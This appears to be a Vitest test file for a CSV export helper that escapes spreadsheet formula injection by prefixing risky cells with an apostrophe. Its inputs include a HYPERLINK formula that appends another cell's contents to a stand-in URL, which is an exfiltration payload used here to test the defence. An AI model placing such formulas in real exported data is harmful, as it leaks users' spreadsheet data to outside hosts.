import Papa from 'papaparse';
import { expect, test } from 'vitest';

import { csvText, unescapeFormula } from './csv.ts';

test('rows become lines', async () => {
  const cells = ['a "quote"', 'two\nlines', '', null];
  const text = await csvText(cells.map((cell) => ({ Name: 'Zoë', Cell: cell })));
  expect(text).toBe(
    ['\uFEFFName,Cell', 'Zoë,"a ""quote"""', 'Zoë,"two\nlines"', 'Zoë,', 'Zoë,'].join('\r\n'),
  );
});

/** The cell that a spreadsheet reads. */
const cellOf = async (text: string) => Papa.parse<[string]>(await csvText([[text]])).data[0]?.[0];

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  "'=1",
  '=HYPERLINK("http://example.com?"&F2,"\nopen")',
])('the formula %j is text in a spreadsheet, and comes back as it was', async (text) => {
  const cell = await cellOf(text);
  expect(cell).toBe(`'${text}`);
  expect(unescapeFormula(cell ?? '')).toBe(text);
});

test.each(["'quoted'", 'Biology', "it's", '1-1', 'a\n=1'])(
  '%j is written as it is',
  async (text) => {
    expect(await cellOf(text)).toBe(text);
    expect(unescapeFormula(text)).toBe(text);
  },
);
